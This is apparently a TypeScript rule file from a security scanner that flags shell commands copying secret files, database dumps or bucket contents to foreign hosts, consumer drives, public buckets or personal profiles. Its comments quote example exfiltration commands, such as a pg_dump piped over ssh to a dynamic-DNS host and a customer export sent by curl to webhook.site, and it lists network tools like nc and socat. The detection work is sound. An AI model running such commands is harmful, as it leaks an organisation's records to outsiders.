// Copy and sync commands that move the organisation's data to a place it does not own: `scp`,
// `rsync`, `sftp`, `rclone`, `gsutil`, `gcloud storage`, `aws s3`, `azcopy`, `az storage blob`.
// The destination is foreign when its host is (a bare public IP, a dynamic-DNS or rented-server
// name, a drop site), when it is a consumer drive (`mega:`), a bucket named for sharing out
// (`…-public`, `temp-share-…`), a bucket of another owner than the source bucket, or when the
// command switches to a personal profile (`--profile personal`). What is copied counts when it is
// data: a secret or system file, a dump or export of records, a data folder, objects of a bucket.
// A dry run copies nothing. `ssh` to a foreign host is remembered for the pipeline rules
// (`pg_dump … | ssh me@home.dyndns.org 'cat > d'`, read in shell-commands.ts and shell.ts).

import { bulkDataFile } from './bulk-data-files.ts';
import { outsideDestination } from './outside-destinations.ts';
import { ftpScriptUploadRule } from './shell-ftp-scripts.ts';
import { quote } from './findings.ts';
import {
  bucketOf,
  consumerDriveRemote,
  differentOwners,
  foreignDestination,
  hostOfDestination,
  foreignHost,
  sharingBucket,
} from './foreign-destinations.ts';
import { normalizePath, sensitiveFile } from './paths.ts';
import { secretFile, secretFolder } from './secret-files.ts';
import { uploadedFile, type RuleContext } from './shell-rule-context.ts';
import { printsFiles } from './shell-secret-reads.ts';
import { hasFlag, optionValues, parseOptions } from './shell-options.ts';
import type { Word } from './shell-words.ts';
import { commandName } from './shell-wrappers.ts';

/** Sub-commands that copy, per program (`rclone copy`, `aws s3 cp`, `az storage blob upload`). */
const COPY_SUBCOMMANDS: Record<string, RegExp> = {
  rclone: /^(?:copy|copyto|sync|move|moveto|bisync)$/,
  gsutil: /^(?:cp|rsync|mv)$/,
  gcloud: /^(?:cp|rsync|mv)$/,
  aws: /^(?:cp|sync|mv)$/,
  azcopy: /^(?:copy|cp|sync)$/,
  az: /^(?:upload|upload-batch|copy)$/,
  s3cmd: /^(?:put|sync|cp)$/,
  // `bq extract project:dataset.table gs://bucket/…`: a table's rows written to a bucket.
  bq: /^extract$/,
};
const DIRECT_COPIERS = new Set(['scp', 'rsync', 'sftp']);
/** Options whose value is no operand: long ones of every copier, short ones per program. */
const LONG_VALUE_OPTIONS = [
  '--profile',
  '--region',
  '--endpoint-url',
  '--account-name',
  '--container-name',
  '--container',
  '--file',
  '--source',
  '--name',
  '--sas-token',
  '--account-key',
  '--auth-mode',
  '--destination',
  '--config',
  '--exclude',
  '--include',
  '--filter',
  '--sse',
  '--acl',
  '--storage-class',
  '--bwlimit',
  '--transfers',
  '--project',
  '--rsh',
];
const SHORT_VALUE_OPTIONS: Record<string, string[]> = {
  scp: ['-i', '-P', '-o', '-F', '-l', '-c', '-S', '-J'],
  sftp: ['-i', '-P', '-o', '-F', '-b', '-l', '-c', '-S', '-J'],
  rsync: ['-e', '-f', '-T', '-B'],
  az: ['-f', '-c', '-n', '-o'],
  bq: ['--destination_format', '--compression', '--field_delimiter', '-F', '--location', '--project_id', '--format'],
};
const valueOptionsCache = new Map<string, ReadonlySet<string>>();
function valueOptions(name: string): ReadonlySet<string> {
  let options = valueOptionsCache.get(name);
  if (options === undefined) {
    options = new Set([...LONG_VALUE_OPTIONS, ...(SHORT_VALUE_OPTIONS[name] ?? [])]);
    valueOptionsCache.set(name, options);
  }
  return options;
}
/** Profiles and accounts named as someone's own (`--profile personal`). */
const PERSONAL_PROFILE = /^(?:personal|private|home|me|mine|own|my[-_]?\w*|\w*[-_]personal)$/i;
/** Build outputs and sources: publishing them is what deploys do. */
const BUILD_OUTPUT = /^(?:\.\/)?(?:dist|build|out|public|site|_site|docs|www|static|assets|target|release|releases)(?:\/|$)/;

/** Why a copy's destination is foreign, or undefined. */
function foreignTarget(destination: string, sources: readonly string[], personal: boolean): string | undefined {
  const byHost = foreignDestination(destination) ?? consumerDriveRemote(destination);
  if (byHost !== undefined) return byHost;
  const bucket = bucketOf(destination);
  if (bucket === undefined) return undefined;
  if (personal) return 'bucket reached with a personal profile';
  const shared = sharingBucket(bucket);
  if (shared !== undefined) return shared;
  const sourceBucket = sources.map(bucketOf).find((name) => name !== undefined);
  if (sourceBucket !== undefined && sourceBucket !== bucket && differentOwners(sourceBucket, bucket)) return "another owner's bucket";
  return undefined;
}

/** Why a copied source is data, or undefined. */
function dataIn(source: string, recursive: boolean, copies: ReadonlyMap<string, string>): string | undefined {
  const local = source.replace(/^[\w.-]+@[\w.-]+:/, '');
  const why =
    secretFile(local) ??
    sensitiveFile(local) ??
    bulkDataFile(local) ??
    (recursive ? secretFolder(local) : undefined) ??
    (copies.size > 0 ? copies.get(normalizePath(local)) : undefined);
  if (why !== undefined) return why;
  const bucket = bucketOf(source);
  if (bucket !== undefined) return bulkDataFile(source.replace(/^[a-z0-9]+:\/\//i, '/')) ?? `objects of bucket ${bucket}`;
  if (recursive && source.startsWith('/') && !BUILD_OUTPUT.test(source.slice(1))) return 'folder';
  return undefined;
}

/** The foreign host an `ssh` command line connects to (`ssh me@home.dyndns.org 'cat > d'`): why and which, or undefined. */
export function sshForeignHost(argv: readonly Word[]): string | undefined {
  const at = argv.findIndex((word) => commandName(word.text) === 'ssh');
  if (at < 0) return undefined;
  const host = parseOptions(argv.slice(at + 1), SSH_VALUE_OPTIONS, true).operands[0]?.text;
  const name = host === undefined ? undefined : hostOfDestination(host);
  const why = name === undefined ? undefined : foreignHost(name);
  return why === undefined ? undefined : `${why} ${quote(host ?? '')}`;
}
const SSH_VALUE_OPTIONS = new Set([
  '-b',
  '-c',
  '-D',
  '-E',
  '-e',
  '-F',
  '-I',
  '-i',
  '-J',
  '-L',
  '-l',
  '-m',
  '-O',
  '-o',
  '-p',
  '-Q',
  '-R',
  '-S',
  '-W',
  '-w',
  '-B',
]);

/** Commands that send what they are given (files, their input) to the host among their arguments. */
const NETWORK_SENDERS = new Set([
  'curl',
  'wget',
  'wget2',
  'xh',
  'http',
  'https',
  'nc',
  'ncat',
  'netcat',
  'socat',
  'telnet',
  'mail',
  'mailx',
  'mutt',
  'neomutt',
  'sendmail',
  's-nail',
  'ftp',
  'tftp',
  'lftp',
]);
/** Options of senders whose value is a file sent (`-T f`, `--upload-file f`, mail's `-a f`). */
const SENT_FILE_OPTION = /^(?:-T|--upload-file|--post-file|--body-file|-a|-A|--attach)$/;
/** Archivers and compressors: what they read, their output carries. */
const PACKERS = new Set(['tar', 'gzip', 'zip', 'bzip2', 'xz', 'zstd', '7z', 'pigz']);

/** A sender of records in bulk to a foreign host is critical; the host is remembered for the pipeline rules. */
function networkSenderRule(c: RuleContext, texts: readonly string[]): void {
  const target = texts.find((text) => foreignDestination(text.replace(/^-\w*=/, '')) !== undefined);
  if (target === undefined) return bulkSentToOutsideUrl(c, texts);
  const where = `${foreignDestination(target.replace(/^-\w*=/, ''))} ${quote(target)}`;
  c.summary.foreignHost = where;
  const bulk = sentFiles(c, texts).find((file) => bulkIn(c, file) !== undefined);
  if (bulk !== undefined) c.scan.add('critical', `shell: sends a ${bulkIn(c, bulk)} ${quote(bulk)} to a ${where} (${c.name})`);
}

/** Files a sender uploads (`-T f`, `--data-binary @f`, `-F file=@f`, `< f`). */
function sentFiles(c: RuleContext, texts: readonly string[]): string[] {
  const sent: string[] = [];
  texts.forEach((text, i) => {
    const file = uploadedFile(text) ?? /^--(?:upload|post|body)-file=(.+)$/.exec(text)?.[1];
    if (file !== undefined) sent.push(file);
    else if (i > 0 && SENT_FILE_OPTION.test(texts[i - 1])) sent.push(text);
  });
  for (const redirect of c.site.redirs) if (redirect.op === 56) sent.push(redirect.target.text);
  return sent;
}

/** Records in bulk uploaded to a URL whose host is not shown to be the organisation's own (`outside-destinations.ts`). */
function bulkSentToOutsideUrl(c: RuleContext, texts: readonly string[]): void {
  const url = texts.find((text) => /^(?:https?|s?ftps?):\/\//i.test(text) && outsideDestination(text, NO_OWN_DOMAINS) !== undefined);
  if (url === undefined) return;
  const bulk = sentFiles(c, texts).find((file) => bulkIn(c, file) !== undefined);
  if (bulk !== undefined)
    c.scan.add(
      'critical',
      `shell: sends a ${bulkIn(c, bulk)} ${quote(bulk)} to a ${outsideDestination(url, NO_OWN_DOMAINS)} ${quote(url)} (${c.name})`,
    );
}

/** Why a file holds records in bulk, by its name or as a local copy of records the same line made. */
function bulkIn(c: RuleContext, file: string): string | undefined {
  return bulkDataFile(file) ?? (c.scan.dataCopies.size > 0 ? c.scan.dataCopies.get(normalizePath(file)) : undefined);
}

/** Programs that copy out of a container or pod to a local path (`kubectl cp ns/pod:/path ./here`, `docker cp db:/path ./here`). */
const CONTAINER_COPIERS = /^(?:kubectl|oc|docker|podman|nerdctl)$/;

/** Remembers local copies of records in bulk, so a later send of the copy is a send of the records. */
function rememberDataCopies(c: RuleContext, texts: readonly string[]): void {
  const container = CONTAINER_COPIERS.test(c.name) && texts.includes('cp');
  if (!container && c.name !== 'cp' && c.name !== 'rsync') return;
  const operands = texts.filter((text) => !text.startsWith('-') && text !== 'cp');
  if (operands.length < 2) return;
  const destination = operands[operands.length - 1];
  if (/^[\w.-]*@?[\w.-]+:/.test(destination) && !destination.startsWith('/')) return;
  for (const source of operands.slice(0, -1).slice(0, 8)) {
    // `ns/pod:/var/lib/postgresql/data`, `db:/var/lib/mysql`: the path inside the container.
    const path = container ? source.replace(/^[^/:]+(?:\/[^/:]+)?:/, '') : source;
    const why = bulkDataFile(path);
    if (why !== undefined) c.scan.dataCopies.set(normalizePath(destination), why);
  }
}

/** A copy of data to a foreign place is critical. */
export function foreignCopyRule(c: RuleContext): void {
  ftpScriptUploadRule(c);
  const texts = c.args.map((word) => word.text);
  rememberDataCopies(c, texts);
  if (NETWORK_SENDERS.has(c.name)) return networkSenderRule(c, texts);
  // `cat exports/customers.csv | curl … https://webhook.site/…`: what a reader or packer prints is the records.
  if (printsFiles(c.name) || PACKERS.has(c.name)) {
    const bulk = texts.find((text) => !text.startsWith('-') && bulkDataFile(text) !== undefined);
    if (bulk !== undefined) c.summary.readsBulk = `${bulkDataFile(bulk)} ${quote(bulk)}`;
    return;
  }
  const subcommand = COPY_SUBCOMMANDS[c.name];
  if (!DIRECT_COPIERS.has(c.name) && (subcommand === undefined || !texts.slice(0, 3).some((text) => subcommand.test(text)))) return;
  const parsed = parseOptions(c.args, valueOptions(c.name));
  // `az storage blob upload --file x --account-name a`: the file is an option, the account the destination.
  const fileOptions = optionValues(parsed, '--file', '--source', '-f').map((word) => word.text);
  const operands = parsed.operands
    .map((word) => word.text)
    .filter((text) => !subcommand?.test(text) && !/^(?:s3|storage|blob)$/.test(text));
  const destination =
    c.name === 'az' ? optionValues(parsed, '--account-name', '--destination').map((word) => word.text)[0] : operands[operands.length - 1];
  if (destination === undefined) return;
  const sources = c.name === 'az' ? fileOptions : operands.slice(0, -1);
  // A BigQuery table (`acme-prod:crm.customers`) belongs to its project: its owner is compared as a bucket's would be.
  const owners = c.name === 'bq' ? sources.map((table) => `gs://${table.replace(/[:.].*$/, '')}`) : sources;
  if (c.name === 'bq' && !sources.some((table) => /^[\w-]+[:.][\w.-]+$/.test(table))) return;
  const personal = optionValues(parsed, '--profile', '--account-name').some((word) => PERSONAL_PROFILE.test(word.text));
  const foreign =
    c.name === 'az'
      ? personal
        ? 'storage account reached with a personal profile'
        : sharingBucket(destination)
      : foreignTarget(destination, owners, personal);
  if (foreign === undefined) return bulkToOutsideHost(c, parsed, sources, destination);
  const recursive = hasFlag(parsed, 'r', 'R', 'a', '--recursive', '--archive') || c.name === 'rclone';
  for (const source of sources) {
    const why = c.name === 'bq' ? 'the rows of table' : dataIn(source, recursive, c.scan.dataCopies);
    if (why === undefined) continue;
    const dryRun = hasFlag(parsed, '--dry-run', '--dryrun') || (c.name === 'rsync' && hasFlag(parsed, 'n'));
    c.scan.add(
      dryRun ? 'high' : 'critical',
      `shell: copies ${why} ${quote(source)} to a ${foreign} ${quote(destination)} (${c.name})${dryRun ? ', as a dry run' : ''}`,
    );
    return;
  }
}

/** rclone's inline remote (`:sftp,host=45.33.12.9,user=x:/dump/`) written as the host it names. */
function inlineRemoteHost(destination: string): string {
  const host = /^:\w+,(?:[^:]*,)?host=([\w.-]+)/.exec(destination)?.[1];
  return host === undefined ? destination : `${host}:`;
}

/** Records in bulk copied to a named host that is not the organisation's own (`outside-destinations.ts`). */
function bulkToOutsideHost(c: RuleContext, parsed: ReturnType<typeof parseOptions>, sources: readonly string[], destination: string): void {
  const target = inlineRemoteHost(destination);
  const bulk = sources.find((source) => bulkDataFile(source.replace(/^[\w.-]+@[\w.-]+:/, '')) !== undefined);
  if (bulk === undefined || bucketOf(target) !== undefined) return;
  const outside = foreignDestination(target) ?? outsideDestination(target, NO_OWN_DOMAINS);
  if (outside === undefined) return;
  const dryRun = hasFlag(parsed, '--dry-run', '--dryrun') || (c.name === 'rsync' && hasFlag(parsed, 'n'));
  c.scan.add(
    dryRun ? 'high' : 'critical',
    `shell: copies ${bulkDataFile(bulk.replace(/^[\w.-]+@[\w.-]+:/, ''))} ${quote(bulk)} to a ${outside} ${quote(destination)} (${c.name})${dryRun ? ', as a dry run' : ''}`,
  );
}

const NO_OWN_DOMAINS: ReadonlySet<string> = new Set();
